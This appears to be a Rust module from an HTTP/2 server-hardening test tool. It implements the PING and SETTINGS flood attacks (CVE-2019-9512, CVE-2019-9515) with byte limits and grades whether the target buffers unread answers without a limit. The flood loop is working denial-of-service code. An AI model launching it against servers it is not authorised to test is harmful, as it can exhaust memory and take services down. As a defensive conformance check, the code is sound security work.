//! Frames that must be answered, from a client that never reads the answers: the answers pile up in a server that has no limit.

use super::link::Link;
use crate::attack::context::Context;
use crate::attack::definition::Attack;
use crate::attack::evidence::{Evidence, Findings, Mark};
use keel_wire::http2::{self, frame, setting};

/// Answers unread at which a server counts as keeping them without a limit, in bytes: kernels keep at most some 10 MiB.
const UNREAD: usize = 24 << 20;
/// Of these so many bytes that come when they are read at last were kept by the server itself.
const KEPT: usize = 12 << 20;
/// Written at a time, in bytes.
const PIECE: usize = 64 << 10;

pub(crate) const PING: Attack = Attack {
    id: "h2-ping",
    what: "sends PING frames without end and reads none of the answers",
    source: "CVE-2019-9512",
    correct: "the connection is ended, or no more is read while answers cannot be sent, or they are not kept",
    memory: None,
    launch: |context| Box::pin(flood(context, http2::PING, &[0; 8])),
};

pub(crate) const SETTINGS: Attack = Attack {
    id: "h2-settings",
    what: "sends SETTINGS frames without end and reads none of the acknowledgements",
    source: "CVE-2019-9515",
    correct: "the connection is ended, or no more is read while acknowledgements cannot be sent, or they are not kept",
    memory: None,
    launch: |context| Box::pin(launch_settings(context)),
};

async fn launch_settings(context: &Context<'_>) -> Findings {
    flood(context, http2::SETTINGS, &setting(http2::INITIAL_WINDOW_SIZE, 65_535)).await
}

async fn flood(context: &Context<'_>, kind: u8, payload: &[u8]) -> Findings {
    let mut link = Link::open(context, &[], true).await?;
    let one = frame(kind, 0, 0, payload);
    // An acknowledgement of settings carries no payload, that of a ping the same.
    let answer = if kind == http2::SETTINGS { http2::HEAD } else { one.len() };
    let piece = one.repeat(PIECE / one.len());
    let each = PIECE / one.len();
    let (mut sent, mut going) = (0, true);
    while going && sent * answer < UNREAD && ((sent * one.len()) as u64) < context.bounds.bytes && context.turn().await
    {
        going = link.write(&piece).await && !link.is_closed();
        sent += each;
    }
    let unread = (sent * answer) >> 10;
    let all_read = going && sent * answer >= UNREAD;
    let drained = !all_read || link.drain().await;
    let kept = link.seen.frames[usize::from(kind)];
    Ok(vec![if link.is_closed() && kept == 0 {
        Evidence::new(Mark::Right, format!("the connection is ended after at most {sent} frames"))
    } else if !going {
        Evidence::new(Mark::Right, format!("after at most {sent} frames ({unread} KiB of answers) no more is read"))
    } else if kept * answer >= KEPT {
        let what = format!(
            "{sent} frames were accepted while no answers were read, and {kept} answers came afterwards: all were buffered"
        );
        Evidence::new(Mark::Wrong, what)
    } else if !drained {
        Evidence::new(
            Mark::Unseen,
            format!("{sent} frames were read; of the answers {kept} came, and more were to come"),
        )
    } else if all_read {
        // Several settings with one acknowledgement, as Go does it, or none: it costs whoever answers no memory.
        let what = format!(
            "{sent} frames were accepted while no answers were read; {kept} answers came afterwards: not buffered"
        );
        Evidence::new(Mark::Tolerated, what)
    } else {
        Evidence::new(Mark::Note, format!("only {sent} frames could be sent within the bounds"))
    }])
}
